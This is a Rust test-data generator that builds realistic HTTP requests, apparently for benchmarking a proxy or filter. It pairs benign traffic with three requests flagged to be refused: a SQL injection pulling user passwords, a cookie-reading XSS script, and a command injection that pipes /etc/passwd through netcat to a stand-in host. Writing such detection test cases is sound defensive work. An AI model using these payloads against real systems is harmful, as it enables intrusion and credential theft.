//! The requests: what browsers and their applications send, and a few attacks.
//!
//! Each is made from a number: other numbers give other values everywhere a value may differ (user
//! agent, cookies, names and values of arguments), so that nothing remembered of one request helps
//! with the next. Only fixed vocabularies stay, such as `Sec-Fetch-Mode`.

use std::ffi::CString;
use std::fmt::Write as _;

use bytes::Bytes;

/// A request and the response to it.
pub struct Sample {
    pub method: Bytes,
    pub target: Bytes,
    pub headers: Vec<(Bytes, Bytes)>,
    /// The head as on the wire.
    pub head: Bytes,
    pub body: Bytes,
    pub response_headers: Vec<(Bytes, Bytes)>,
    pub response_body: Bytes,
    /// The method, as C wants it.
    pub c_method: CString,
    /// The target, as C wants it.
    pub c_target: CString,
}

/// A kind of request.
pub struct Case {
    /// What it is called.
    pub name: &'static str,
    /// Whether it is to be refused.
    pub attack: bool,
    make: fn(&mut Values) -> Draft,
}

/// Whether values were seen before.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Freshness {
    Fresh,
    Repeated,
}

/// All of them.
pub const CASES: &[Case] = &[
    Case { name: "get", attack: false, make: get },
    Case { name: "form", attack: false, make: form },
    Case { name: "json", attack: false, make: |values| json(values, 4 << 10) },
    Case { name: "html", attack: false, make: html },
    Case { name: "upload", attack: false, make: upload },
    Case { name: "json100k", attack: false, make: |values| json(values, 100 << 10) },
    Case { name: "sqli", attack: true, make: sqli },
    Case { name: "xss", attack: true, make: xss },
    Case { name: "rce", attack: true, make: rce },
];

/// Samples of one case.
pub struct Samples {
    case: &'static Case,
    next: u64,
}

impl Samples {
    pub fn of(case: &'static Case) -> Self {
        Self { case, next: 1 }
    }

    /// The one that is repeated.
    pub fn repeated(&self) -> Sample {
        self.numbered(0)
    }

    /// As many, each with values that none had before, or all the same.
    pub fn take(&mut self, freshness: Freshness, count: usize) -> Vec<Sample> {
        let numbers = match freshness {
            Freshness::Fresh => self.next..self.next + count as u64,
            Freshness::Repeated => return (0..count).map(|_| self.repeated()).collect(),
        };
        self.next = numbers.end;
        numbers.map(|number| self.numbered(number)).collect()
    }

    fn numbered(&self, number: u64) -> Sample {
        (self.case.make)(&mut Values::new(number)).finish()
    }
}

fn get(values: &mut Values) -> Draft {
    let target = format!(
        "/catalogue/{}/{}?{}={}&{}={}&page={}",
        values.word(),
        values.number(100_000),
        values.name(),
        values.words(3).replace(' ', "+"),
        values.name(),
        values.token(8),
        values.number(500),
    );
    Draft::new("GET", target, values)
}

fn form(values: &mut Values) -> Draft {
    let mut body = String::new();
    while body.len() < 1000 {
        let mark = if body.is_empty() { "" } else { "&" };
        let count = 1 + values.number(6) as usize;
        let value = values.words(count).replace(' ', "+");
        write!(body, "{mark}{}={value}", values.name()).unwrap();
    }
    let mut draft = Draft::new("POST", format!("/account/{}", values.word()), values);
    draft.body("application/x-www-form-urlencoded", body.into_bytes());
    draft
}

fn json(values: &mut Values, length: usize) -> Draft {
    // The longer one has longer texts, so that it holds fewer values than the limit, a thousand.
    let texts = if length > 10_000 { 80 } else { 4 };
    let mut body = format!("{{\"order\":\"{}\",\"items\":[", values.token(12));
    while body.len() < length - 40 {
        let mark = if body.ends_with('[') { "" } else { "," };
        let (name, note) = (values.words(2), values.words(texts));
        write!(
            body,
            "{mark}{{\"sku\":\"{}\",\"name\":\"{name}\",\"{}\":{},\"gift\":{},\"note\":\"{note}\"}}",
            values.token(8),
            values.name(),
            values.number(90) + 1,
            values.number(2) == 0,
        )
        .unwrap();
    }
    body += "]}";
    let mut draft = Draft::new("POST", format!("/api/orders/{}", values.number(100_000)), values);
    draft.body("application/json", body.into_bytes());
    draft
}

fn html(values: &mut Values) -> Draft {
    let mut page =
        "<!doctype html><html><head><title>Orders</title></head><body><table>".to_owned();
    while page.len() < (10 << 10) - 30 {
        let (name, price) = (values.words(8), values.number(1000));
        let row = "<tr class=\"item\"><td>";
        writeln!(page, "{row}{}</td><td>{name}</td><td>{price}</td></tr>", values.token(6))
            .unwrap();
    }
    page += "</table></body></html>";
    let mut draft = get(values);
    draft.response = ("text/html; charset=utf-8", page.into_bytes());
    draft
}

fn upload(values: &mut Values) -> Draft {
    let boundary = format!("----WebKitFormBoundary{}", values.token(16));
    let mut body = String::new();
    for _ in 0..3 {
        let (name, value) = (values.name(), values.words(5));
        write!(
            body,
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
        )
        .unwrap();
    }
    write!(
        body,
        "--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"{}.png\"\r\n\
         Content-Type: image/png\r\n\r\n",
        values.word()
    )
    .unwrap();
    let mut body = body.into_bytes();
    body.extend((0..8 << 10).map(|_| values.number(256) as u8));
    body.extend(format!("\r\n--{boundary}--\r\n").into_bytes());
    let mut draft = Draft::new("POST", format!("/photos/{}", values.word()), values);
    draft.body(&format!("multipart/form-data; boundary={boundary}"), body);
    draft
}

fn sqli(values: &mut Values) -> Draft {
    let (id, token) = (values.number(1000), values.token(8));
    let target = format!(
        "/catalogue?{token}=1&id={id}%27+UNION+SELECT+user,password+FROM+users_{token}+WHERE+%271%27=%271"
    );
    Draft::new("GET", target, values)
}

fn xss(values: &mut Values) -> Draft {
    let token = values.token(8);
    let target = format!("/search?q=%3Cscript%3Ealert(document.cookie,%22{token}%22)%3C/script%3E");
    Draft::new("GET", target, values)
}

fn rce(values: &mut Values) -> Draft {
    let (host, port) = (values.number(200), values.number(9999));
    let target = format!("/ping?host=127.0.0.{host};cat+/etc/passwd|nc+192.0.2.{host}+{port}");
    Draft::new("GET", target, values)
}

/// A request while it is written.
struct Draft {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    response: (&'static str, Vec<u8>),
}

impl Draft {
    /// With what a browser sends.
    fn new(method: &'static str, target: String, values: &mut Values) -> Self {
        let (build, quality) = (values.number(9999), values.number(9));
        let headers = vec![
            ("Host", "www.example.com".to_owned()),
            (
                "User-Agent",
                format!(
                    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.{build}.{} Safari/537.36",
                    values.number(999)
                ),
            ),
            (
                "Accept",
                format!(
                    "text/html,application/xhtml+xml,application/xml;q=0.{quality},image/avif,image/webp,*/*;q=0.{}",
                    values.number(999)
                ),
            ),
            (
                "Accept-Language",
                format!("en-GB,en;q=0.{},de;q=0.{}", values.number(999), values.number(999)),
            ),
            ("Accept-Encoding", "gzip, deflate, br".to_owned()),
            (
                "Referer",
                format!("http://www.example.com/catalogue/{}/{}", values.word(), values.token(6)),
            ),
            (
                "Cookie",
                format!(
                    "session={}; theme={}; consent=2024-05-{}; basket={}",
                    values.token(32),
                    values.word(),
                    values.number(28) + 1,
                    values.token(16)
                ),
            ),
            ("Connection", "keep-alive".to_owned()),
            ("Cache-Control", format!("max-age={}", values.number(99_999))),
            ("DNT", "1".to_owned()),
            ("Upgrade-Insecure-Requests", "1".to_owned()),
            ("Sec-Fetch-Site", "same-origin".to_owned()),
            ("Sec-Fetch-Mode", "navigate".to_owned()),
            ("Sec-Fetch-Dest", "document".to_owned()),
            ("Sec-Fetch-User", "?1".to_owned()),
        ];
        let response = ("text/plain", b"ok\n".to_vec());
        Self { method, target, headers, body: Vec::new(), response }
    }

    fn body(&mut self, media_type: &str, body: Vec<u8>) {
        self.headers.push(("Content-Type", media_type.to_owned()));
        self.headers.push(("Content-Length", body.len().to_string()));
        self.body = body;
    }

    /// As it is on the wire: fields are slices of one head, as the proxy has them.
    fn finish(self) -> Sample {
        let mut head = format!("{} {} HTTP/1.1\r\n", self.method, self.target);
        let mut places = Vec::new();
        for (name, value) in &self.headers {
            let begin = head.len();
            write!(head, "{name}: {value}\r\n").unwrap();
            let middle = begin + name.len();
            places.push((begin..middle, middle + 2..head.len() - 2));
        }
        let head = Bytes::from(head + "\r\n");
        let fields = places.into_iter().map(|(name, value)| (head.slice(name), head.slice(value)));
        let target = self.method.len() + 1;
        let (media_type, response_body) = self.response;
        Sample {
            method: head.slice(..self.method.len()),
            target: head.slice(target..target + self.target.len()),
            headers: fields.collect(),
            head: head.clone(),
            body: self.body.into(),
            response_headers: vec![
                ("Server".into(), "origin".into()),
                ("Content-Type".into(), media_type.into()),
                ("Content-Length".into(), response_body.len().to_string().into()),
            ],
            response_body: response_body.into(),
            c_method: CString::new(self.method).unwrap(),
            c_target: CString::new(self.target).unwrap(),
        }
    }
}

/// Values that follow from a number, and look as those of people do.
struct Values {
    state: u64,
}

const WORDS: &[&str] = &[
    "lantern", "paper", "garden", "window", "silver", "river", "morning", "basket", "Anna",
    "Berlin", "harbour", "winter", "letter", "bamboo", "copper", "yellow", "meadow", "station",
    "candle", "Thomas", "violin", "orange", "village", "summer", "pocket", "market", "Lisbon",
    "pepper", "ribbon", "cotton", "feather", "mountain",
];
const NAMES: &[&str] = &[
    "street", "city", "first", "last", "phone", "comment", "size", "colour", "quantity", "country",
    "company", "birthday", "subject", "category", "sort", "filter",
];

impl Values {
    fn new(number: u64) -> Self {
        Self { state: (number + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15) }
    }

    /// Below `end`. (xorshift64*)
    fn number(&mut self, end: u64) -> u64 {
        self.state ^= self.state >> 12;
        self.state ^= self.state << 25;
        self.state ^= self.state >> 27;
        (self.state.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) % end
    }

    fn one(&mut self, of: &[&'static str]) -> &'static str {
        of[self.number(of.len() as u64) as usize]
    }

    /// A word and a number: one of some ten thousand.
    fn word(&mut self) -> String {
        format!("{}{}", self.one(WORDS), self.number(400))
    }

    /// Words, of which one is rare.
    fn words(&mut self, count: usize) -> String {
        let mut text = self.word();
        for _ in 1..count {
            write!(text, " {}", self.one(WORDS)).unwrap();
        }
        text
    }

    /// The name of an argument.
    fn name(&mut self) -> String {
        format!("{}_{}", self.one(NAMES), self.number(10_000))
    }

    fn token(&mut self, length: usize) -> String {
        (0..length).map(|_| char::from(b"0123456789abcdef"[self.number(16) as usize])).collect()
    }
}
